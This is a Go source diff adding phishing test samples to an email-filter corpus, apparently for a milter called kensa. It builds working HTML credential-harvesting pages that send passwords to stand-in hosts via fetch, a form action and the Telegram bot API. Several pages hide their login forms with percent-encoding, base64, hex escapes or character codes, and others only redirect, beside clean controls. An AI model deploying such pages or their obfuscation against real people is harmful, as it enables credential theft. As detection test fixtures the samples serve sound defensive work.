@@ -1,0 +1,148 @@
+package corpus
+
+import (
+	"encoding/base64"
+	"strings"
+
+	"github.com/kensa-milter/kensa/policy"
+)
+
+// HTML attachments as today's phishing kits build them: a login page with
+// no form whose script sends the password, a page written by script from
+// escaped or base64 text, attribute tricks, and pages that only send the
+// reader to a remote page. Each travels in the three wrappings of the
+// Office samples (attached, in a zip, in a mail in a zip). Every page was
+// opened in Chromium (Debian 12's, headless) to check that it renders and
+// behaves as described; the addresses are reserved names.
+
+const phishTarget = "https://collect.example.net/owa/auth.php"
+
+// phishLogin is a fake mail login with no form: the kit's script reads the
+// fields.
+const phishLogin = `<div class="box"><h2>Sign in to view the shared document</h2>` +
+	`<input type="email" id="ai" placeholder="Email address"><input type="password" id="pr" placeholder="Password">` +
+	`<button id="submit-btn">Sign in</button></div>`
+
+// phishPage is a whole kit page: head, style, the login, and script.
+func phishPage(title, style, login, script string) string {
+	return "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>" + title + "</title><style>body{font-family:Segoe UI,Arial;background:#f3f2f1}" +
+		".box{width:340px;margin:80px auto;background:#fff;padding:40px}" + style + "</style></head>\r\n<body>" + login +
+		"\r\n<script>\r\n" + script + "\r\n</script></body></html>\r\n"
+}
+
+func percentEncoded(s string) string {
+	const hexd = "0123456789ABCDEF"
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		b.WriteByte('%')
+		b.WriteByte(hexd[s[i]>>4])
+		b.WriteByte(hexd[s[i]&15])
+	}
+	return b.String()
+}
+
+func hexEscaped(s string) string {
+	const hexd = "0123456789abcdef"
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		b.WriteString(`\x`)
+		b.WriteByte(hexd[s[i]>>4])
+		b.WriteByte(hexd[s[i]&15])
+	}
+	return b.String()
+}
+
+// writtenLogin is the markup a kit writes with document.write: the login
+// with a form that posts away.
+const writtenLogin = `<div class="box"><h2>Confirm your mailbox</h2><form method="post" action="` + phishTarget + `">` +
+	`<input type="email" name="login" placeholder="Email"><input type="password" name="passwd" placeholder="Password">` +
+	`<input type="submit" value="Next"></form></div>`
+
+// sendFetch is the kit's script that posts the fields with fetch.
+const sendFetch = `document.getElementById("submit-btn").addEventListener("click", function (ev) {` + "\r\n" +
+	`  ev.preventDefault();` + "\r\n" +
+	`  fetch("` + phishTarget + `", {method: "POST", headers: {"Content-Type": "application/x-www-form-urlencoded"},` + "\r\n" +
+	`    body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});` + "\r\n" +
+	`});`
+
+func htmlPhishCases() []officeCase {
+	b64 := base64.StdEncoding.EncodeToString([]byte(writtenLogin))
+	var codes []string
+	for _, c := range []byte(writtenLogin) {
+		codes = append(codes, itoa(int(c)))
+	}
+	quarantine := func(name, about, file, data string, id string) officeCase {
+		return officeCase{name: name, about: about, action: policy.Quarantine, subject: "Shared document", body: "You have received a document. Open the attachment to view it.\n",
+			ctype: "text/html; charset=utf-8", file: file, data: []byte(data), wants: []relWant{{"heuristic", id, ""}}}
+	}
+	return []officeCase{
+		quarantine("html-phish-fetch-no-form", "HTML login page with no form: its script posts the password with fetch",
+			"Fax_Document.html", phishPage("Document", "", phishLogin, sendFetch), "html-credential-form"),
+		quarantine("html-phish-telegram", "HTML login page whose jQuery $.ajax sends the password to the Telegram bot API",
+			"Remittance.htm", phishPage("Remittance", "", phishLogin, `$("#submit-btn").click(function () {`+"\r\n"+
+				`  var msg = "Email: " + $("#ai").val() + " Password: " + $("#pr").val();`+"\r\n"+
+				`  $.ajax({url: "https://api.telegram.org/bot5123456789:AAF-kensa-corpus/sendMessage", type: "POST", data: {chat_id: "-1001", text: msg}});`+"\r\n"+
+				`});`), "html-credential-form"),
+		quarantine("html-phish-action-by-script", "HTML login form with an empty action that its script points at a remote page",
+			"Invoice_Payment.html", phishPage("Payment", "", `<div class="box"><form id="lf" action="" method="post"><input type="email" name="u">`+
+				`<input type="password" name="p"><button>Sign in</button></form></div>`, `var f = document.getElementById("lf");`+"\r\n"+`f.action = "`+phishTarget+`";`), "html-credential-form"),
+		quarantine("html-phish-write-unescape", "HTML page that writes its login form with document.write(unescape('%3C%64...'))",
+			"Secure_Message.html", "<html><head><title>Secure message</title></head><body>\r\n<script language=\"javascript\">document.write(unescape('"+percentEncoded(writtenLogin)+"'));</script>\r\n</body></html>\r\n", "html-credential-form"),
+		quarantine("html-phish-write-atob", "HTML page that writes its login form with document.write(decodeURIComponent(escape(atob(...))))",
+			"Payment_Advice.html", "<html><body>\r\n<script>\r\nvar _0x1 = \""+b64+"\";\r\ndocument.write(decodeURIComponent(escape(window.atob(_0x1))));\r\n</script>\r\n</body></html>\r\n", "html-credential-form"),
+		quarantine("html-phish-hex-innerhtml", "HTML page whose login form is a hex-escaped string put into innerHTML",
+			"Statement.html", "<html><body><div id=\"app\">Loading...</div>\r\n<script>\r\ndocument.getElementById(\"app\").innerHTML = \""+hexEscaped(writtenLogin)+"\";\r\n</script></body></html>\r\n", "html-credential-form"),
+		quarantine("html-phish-charcodes", "HTML page that writes its login form from an array of character codes",
+			"Voice_Message.html", "<html><body>\r\n<script>\r\nvar c = ["+strings.Join(codes, ",")+"];\r\ndocument.write(c.map(function (n) { return String.fromCharCode(n); }).join(\"\"));\r\n</script></body></html>\r\n", "html-credential-form"),
+		quarantine("html-phish-attribute-tricks", "HTML login form whose password box is a text field masked by -webkit-text-security, with a duplicate type and an entity-encoded action",
+			"Shared_File.html", phishPage("OneDrive", ".pw{-webkit-text-security:disc}", `<div class="box"><form method="post" action="&#104;ttps&#58;//collect.example.net/owa/auth.php">`+
+				`<input type="email" name="login"><input class="pw" type="text" type="password" name="passwd" autocomplete="off"><input type="submit" value="Sign in"></form></div>`, ""), "html-credential-form"),
+		quarantine("html-redirect-meta-refresh", "HTML attachment that only refreshes to a remote page",
+			"Voicemail_0412.html", "<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://landing.example.net/voicemail/?id=kensa'\"></head><body>Loading your voicemail...</body></html>\r\n", "html-redirect-attachment"),
+		quarantine("html-redirect-location", "HTML attachment whose script sends the window to a remote page built from base64 and pieces",
+			"Document_Review.html", "<html><body><p>Please wait while your document loads.</p>\r\n<script>\r\nvar t = atob(\""+base64.StdEncoding.EncodeToString([]byte("https://landing.example.net/review/"))+"\");\r\nwindow['loc' + 'ation']['replace'](t + '#' + 'kenji@corp.example.jp');\r\nwindow.location.href = t;\r\n</script></body></html>\r\n", "html-redirect-attachment"),
+		quarantine("html-redirect-iframe", "HTML attachment that shows a remote login page in a frame across the window",
+			"Wire_Confirmation.html", "<html><head><style>html,body{margin:0;height:100%;overflow:hidden}</style></head><body>\r\n<iframe src=\"https://landing.example.net/signin/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:none\"></iframe>\r\n</body></html>\r\n", "html-redirect-attachment"),
+		quarantine("html-redirect-written-refresh", "HTML attachment whose script writes a meta refresh to a remote page with document.write(unescape(...))",
+			"Order_Details.html", "<html><body><script>document.write(unescape(\""+percentEncoded(`<meta http-equiv="refresh" content="0;url=https://landing.example.net/order/">`)+"\"));</script></body></html>\r\n", "html-redirect-attachment"),
+	}
+}
+
+// htmlPhishClean are the honest HTML attachments beside them: a saved
+// receipt, a newsletter saved as a page with a video and buttons, an
+// exported report with a feedback form to the sender's own site and an
+// analytics call, and a body with a sign-in link.
+func htmlPhishClean() []Sample {
+	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
+	var out []Sample
+	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
+	var items strings.Builder
+	for i := 1; i <= 12; i++ {
+		items.WriteString("<tr><td>Item " + itoa(i) + ": shell fittings, brass, 25 mm</td><td>" + itoa(i*3) + "</td><td>" + itoa(i*420) + " JPY</td></tr>\r\n")
+	}
+	add(ok("html-saved-receipt", "a receipt saved from the shop's site as .html: links, a print button, a script that reports a page view"),
+		mail{subject: "Your receipt", root: multipart("mixed", text("Your receipt is attached as a web page.\n"),
+			attach("text/html; charset=utf-8", "receipt-2026-1187.html", []byte("<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Receipt 2026-1187</title>"+
+				"<script>window.dataLayer = window.dataLayer || []; fetch(\"https://stats.shop.example.com/collect?page=receipt\", {method: \"POST\", keepalive: true});</script></head>\r\n"+
+				"<body><h1>Example Shop</h1><p>Receipt 2026-1187, 2 November 2026. Thank you for your order.</p><table>"+items.String()+"</table>\r\n"+
+				"<p><a href=\"https://shop.example.com/orders/2026-1187\">View your order</a> · <a href=\"https://shop.example.com/account/login\">Sign in to your account</a></p>"+
+				"<button onclick=\"window.print()\">Print</button> <button onclick=\"location.href='https://shop.example.com/returns'\">Return an item</button></body></html>\r\n")))})
+	var news strings.Builder
+	for i := 1; i <= 8; i++ {
+		news.WriteString("<h2>Story " + itoa(i) + "</h2><p>The beach project moved on this month: new fittings, a second pier and photos from the site visit. Read the whole story on our site.</p>\r\n")
+	}
+	add(ok("html-saved-newsletter", "a newsletter saved as .html: stories, a video frame, a button that opens the shop"),
+		mail{subject: "November newsletter", root: multipart("mixed", text("The newsletter as a page, for those whose mail client hides images.\n"),
+			attach("text/html; charset=utf-8", "newsletter-november.html", []byte("<html><head><title>November</title><style>.btn{padding:8px}</style></head><body>"+news.String()+
+				"<iframe src=\"https://video.example.org/embed/kensa\" width=\"560\" height=\"315\" allowfullscreen></iframe>\r\n"+
+				"<button class=\"btn\" onclick=\"location.href='https://shop.example.com/'\">Visit the shop</button>\r\n"+
+				"<script>function more(){ window.location.href = \"https://shop.example.com/news\"; }</script></body></html>\r\n")))})
+	add(ok("html-exported-report", "an exported report (.html) with a feedback form to the sender's own site and an analytics fetch, no password field"),
+		mail{subject: "Weekly report", root: multipart("mixed", text("This week's report.\n"),
+			attach("text/html; charset=utf-8", "weekly-report.html", []byte("<html><body><h1>Weekly sales report</h1><table>"+items.String()+"</table>\r\n"+
+				"<form method=\"post\" action=\"https://reports.shop.example.com/feedback\"><label>Comments <input type=\"text\" name=\"comment\"></label><input type=\"email\" name=\"from\"><button>Send</button></form>\r\n"+
+				"<script>fetch(\"https://reports.shop.example.com/opened?r=weekly\");</script></body></html>\r\n")))})
+	add(ok("html-body-login-link", "an HTML body asking the reader to sign in by a link to the sender's own site"),
+		mail{subject: "Your account", root: html(`<p>Dear customer,</p><p>your statement is ready. <a href="https://shop.example.com/account/login">Sign in to your account</a> to read it.</p><p>Example Shop</p>`)})
+	return out
+}
